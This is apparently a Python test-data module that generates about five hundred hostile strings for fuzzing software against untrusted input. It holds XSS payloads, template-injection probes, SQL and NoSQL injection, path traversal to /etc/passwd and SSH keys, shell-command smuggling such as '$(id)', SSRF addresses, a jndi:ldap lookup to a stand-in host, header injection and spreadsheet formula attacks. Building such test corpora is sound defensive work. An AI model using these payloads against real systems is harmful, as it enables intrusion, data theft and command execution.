"""Five hundred strings that attack whoever reads them carelessly: browsers, templates, databases, files, headers, logs.

What a string would do where it worked can be seen: `TOLD` is what an evaluated template says, `MARK` is in the name of
every element, attribute, header and file that it tries to make.
"""

from collections.abc import Iterator
from itertools import product

MARK = "hostile"
#: 1337 times 1337: only who evaluates has it.
TOLD = "1787569"

_CALL = f"alert('{MARK}')"
_ELEMENTS = [
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<body onload={_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<a href=javascript:{_CALL}>{MARK}</a>",
    f"<form action=javascript:{_CALL}><button>{MARK}",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example'>",
    f"<link rel=stylesheet href=//{MARK}.example/a.css>",
    f"<object data=//{MARK}.example>",
    f"<div hx-get=//{MARK}.example hx-trigger=load>",
    f"<div data-hx-on:load={_CALL} hx-on::load={_CALL}>",
    f"<style>@import '//{MARK}.example';</style>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
    f"<IMG SRC=x OnErRoR={_CALL}>",
    f"<img\x0csrc=x\x0conerror={_CALL}>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
]
_WAYS_OUT = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</option></select>", "-->", '" x="']
_ATTRIBUTES = [
    f"{quote}{space}{name}={quote}{_CALL}{quote} {MARK}={quote}"
    for quote, space, name in product(
        ('"', "'", "`"), (" ", "\t", "/", "\n"), ("onmouseover", "autofocus onfocus", "style=x:x onclick")
    )
]
_SCRIPTS = [
    f"'-{_CALL}-'",
    f'"-{_CALL}-"',
    f"\\'-{_CALL}//",
    f"${{{_CALL}}}",
    f"`;{_CALL};`",
    f"\u2028{_CALL}\u2029",
    f"*/{_CALL}/*",
    f'{{"__proto__": {{"{MARK}": 1}}}}',
    "constructor.prototype",
    "__proto__",
    "[object Object]",
    "undefined",
    "null",
    "NaN",
]
_ADDRESSES = [
    *(f"{scheme}{_CALL}" for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:")),
    *(
        f"{scheme}{_CALL}"
        for scheme in (" javascript:", "javascript\n:", "vbscript:", "view-source:javascript:")
    ),
    f"data:text/html,<script>{_CALL}</script>",
    f"data:text/html;base64,PHNjcmlwdD4{MARK}",
    *(
        f"{start}{MARK}.example/"
        for start in ("//", "/\\", "\\\\", "https:", "///", "/%09/", "/%2f%2f", "https://")
    ),
    *(f"https://127.0.0.1{end}" for end in (f"@{MARK}.example/", f".{MARK}.example/", f"%2e{MARK}.example")),
    f"https://{MARK}.example\\@127.0.0.1/",
    f"http://[::1]:6379/{MARK}",
    "http://169.254.169.254/latest/meta-data/",
    "http://0x7f.1/",
    "http://2130706433/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:25/",
    "http://[",
    "http://a:b:c/",
    "https://\u2460.example/",
    "https://example\u3002com/",
    "?next=//evil.example&next=/",
    "#" * 50,
]
_TEMPLATES = [
    *(
        f"{start}1337*1337{end}"
        for start, end in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("@(", ")"))
    ),
    *(
        f"{start}1337*1337{end}"
        for start, end in (("{{=", "}}"), ("[[", "]]"), ("*{", "}"), ("{{{", "}}}"), ("$((", "))"))
    ),
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__.__init__.__globals__}",
    "%(password)s",
    "%s%s%s%n%x",
    "${jndi:ldap://hostile.example/a}",
    "{transaction_id}{click_id}",
    "{",
    "}}",
    "{#",
    "#}{% endcomment %}",
]
_QUERIES = [
    "' OR '1'='1",
    "'; DROP TABLE accounts_user; --",
    "' UNION SELECT password FROM accounts_user --",
    "1; SELECT pg_sleep(9)",
    "1) OR (SELECT 1 FROM pg_sleep(9))=1",
    "' || (SELECT version()) || '",
    '" OR ""="',
    "\\' OR 1=1 --",
    "admin'--",
    "0x27204f52",
    "%' AND 1=0 AND '%'='",
    "\u02bc OR 1=1",
    "\ubf27 OR 1=1",
    '{"$gt": ""}',
    '{"$where": "sleep(9000)"}',
    '[{"$ne": null}]',
    "*)(uid=*))(|(uid=*",
    "//*[1=1]",
    "db.dropDatabase()",
    "_%_%",
    "id desc; --",
    "-id,name",
    "COPY t TO PROGRAM 'id'",
    "read_csv('/etc/passwd')",
    "ATTACH '/tmp/hostile.db'",
]
_PATHS = [
    *(
        f"{step * 8}etc/passwd"
        for step in ("../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "%c0%ae%c0%ae/")
    ),
    "/etc/passwd",
    "/etc/passwd\x00.csv",
    "C:\\Windows\\win.ini",
    "\\\\hostile.example\\share",
    "~root/.ssh/id_rsa",
    ".",
    "..",
    "./.",
    "CON",
    "NUL.txt",
    "a" * 300 + ".csv",
    "-rf",
    "--help",
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "& ping hostile.example",
    "\n id",
    "file.csv;.exe",
    'a";\r\nX-Hostile: 1;.csv',
]
_LINES = [
    *(
        f"{start}{line}X-Hostile: 1"
        for start, line in product(("", "a", "/"), ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a"))
    ),
    f"a\r\nBcc: {MARK}@example.com",
    f"a\nSubject: {MARK}",
    f"{MARK}@example.com,other@example.com",
    f'"a\r\n{MARK}"@example.com',
    f"a%0aBcc:{MARK}@example.com",
    "a\r\n\r\n<html>",
    "a\r\nSet-Cookie: hostile=1",
    "a\u2028Set-Cookie: hostile=1",
    "a\x85Set-Cookie: hostile=1",
    "\n2026-11-30 00:00:00,000 ERROR root [-] hostile",
    "\x1b[31mhostile\x1b[0m",
    "\x1b]0;hostile\x07",
    "\b\b\b\bhostile",
]
_CHARACTERS = [
    *(
        "\x00",
        "a\x00b",
        "%00",
        "\x01\x02\x03",
        "\x7f",
        "\x80\x9f",
        "\ufeff",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
    ),
    *(
        "\u202egpj.exe",
        "\u2066a\u2069",
        "\u202d\u202e" * 20,
        "\u200b",
        "a\u200bb",
        "\u200d" * 50,
        "\u00ad",
        "\u2060",
        "\u180e",
    ),
    *("\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\u2764\ufe0f"),
    *("\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "a\u05d0b\u05d1", "\u0627" * 100),
    *(
        "e\u0301",
        "\u00e9",
        "\u212b",
        "\ufb01",
        "\ufdfa",
        "\u1e9e\u00df",
        "\u0130I\u0131i",
        "\u2126\u03a9",
        "\uff21\uff11",
    ),
    *("o\u0335" + "\u0336" * 60, "Z" + "\u0300" * 200, "\u0e47" * 50, "\u1160", "\u3164", "\u2800", "\u115f"),
    *(
        "\u0430dmin@example.com",
        "admin@ex\u0430mple.com",
        "ADMIN@example.com ",
        "admin@example.com\u200b",
        "adm\u00adin@example.com",
    ),
    *("\ud7ff", "\ue000", "\U000e0041\U000e0042", "\U0001d400", "\U00020000"),
    *(" ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\u3000", "\x0b\x0c", " a ", "\x1c\x1d\x1e\x1f"),
]
_FORMULAS = [
    *(
        f"{start}cmd|' /C calc'!A0"
        for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    ),
    *(f"a{separator}=1+1" for separator in (",", ";", "\t", "|", "\n")),
    f'=HYPERLINK("http://{MARK}.example","x")',
    f'=IMPORTXML("http://{MARK}.example","//a")',
    '=WEBSERVICE("http://hostile.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-5",
    "+1+1",
    '"=1+1"',
    "'=1+1",
    '",=1+1,"',
    "=\u0000cmd",
    "DDE(cmd;calc)",
]
_NUMBERS = [
    *(
        "0",
        "-0",
        "00",
        "-1",
        "1e1",
        "1e999",
        "-1e999",
        "1E-400",
        "0x10",
        "0b1",
        "0o7",
        "1_000",
        "1,000",
        "1.000,50",
        "\u0661\u0662\u0663",
    ),
    *(
        "2147483647",
        "2147483648",
        "-2147483649",
        "4294967296",
        "9223372036854775807",
        "9223372036854775808",
        "18446744073709551616",
    ),
    *(
        "9" * 400,
        "0." + "0" * 400 + "1",
        "1." + "9" * 400,
        "Infinity",
        "-inf",
        "nan",
        "+1",
        "1 ",
        "\uff11\uff12",
        "\u00bd",
        "\u2167",
        "1\u00a0000",
    ),
    *(
        "true",
        "false",
        "None",
        "[]",
        "{}",
        "[1]",
        '{"a":1}',
        "1/0",
        "1;2",
        "50%",
        "1-1",
        "--1",
        "+-1",
        ".",
        "-",
        "e",
        "1e",
    ),
    *(
        "2026-02-30",
        "0000-00-00",
        "9999-12-31T23:59:59",
        "2026-11-30T25:61:61",
        "10000-01-01",
        "1969-12-31",
        "2026-W54-1",
        "29.02.2027",
    ),
    *("-999999999-01-01", "2026-03-29 02:30", "now", "tomorrow", "P99999999D", "12:60", "24:00:01", "+25:00"),
]
_LONG = [
    "a" * 10_000,
    "\U0001f600" * 2_000,
    "<" * 3_000,
    "&" * 3_000,
    '"' * 3_000,
    "[" * 3_000,
    "(" * 3_000 + ")" * 3_000,
    "a" * 5_000 + "!",
    "a@" * 2_000,
    "." * 3_000,
    "0" * 3_000,
    " " * 3_000 + "x",
    "a," * 2_000,
    "../" * 1_000,
    "%" * 3_000,
    "\u0301" * 3_000,
    "a.b" * 1_000 + "@",
    "1 " * 2_000,
    "x=1&" * 1_000,
    "\\" * 3_000,
]
_CONFIGURATION = [
    "admin",
    "role=admin",
    "data[]",
    "id[]=1&id[]=2",
    "page[size]=100000",
    "filter[name][gte]",
    "is_superuser",
    "csrfmiddlewaretoken",
    "X-Forwarded-Host",
    "localhost",
    "00000000-0000-0000-0000-000000000000",
    "00000000000000000000000000000001",
    "{00000000-0000-0000-0000-000000000001}",
    "urn:uuid:00000000-0000-0000-0000-000000000001",
    "Europe/Berlin\x00",
    "../../../usr/share/zoneinfo/UTC",
    "Etc/../UTC",
    "en-US,*;q=x",
    "gzip;q=nan",
    "bytes=0-,-1,5-1",
    "multipart/form-data",
    "application/json",
    "Basic YWRtaW46YWRtaW4=",
    "Bearer hostile",
    "session=hostile; session=other",
]


def _made() -> Iterator[str]:
    for way_out, element in product(_WAYS_OUT, _ELEMENTS):
        # Every way out of an attribute or an element with some of the elements, and each element alone.
        if way_out == "" or (_WAYS_OUT.index(way_out) + _ELEMENTS.index(element)) % 3 == 0:
            yield f"{way_out}{element}"
    groups = (_ATTRIBUTES, _SCRIPTS, _ADDRESSES, _TEMPLATES, _QUERIES, _PATHS, _LINES, _CHARACTERS, _FORMULAS)
    for group in (*groups, _NUMBERS, _LONG, _CONFIGURATION):
        yield from group


#: Each once.
HOSTILE = list(dict.fromkeys(_made()))


def hostile(number: int) -> str:
    """The string of that number, over and over, neighbours of different sorts."""
    # A step without a common divisor with the amount visits each once before one comes again.
    return HOSTILE[number * 101 % len(HOSTILE)]
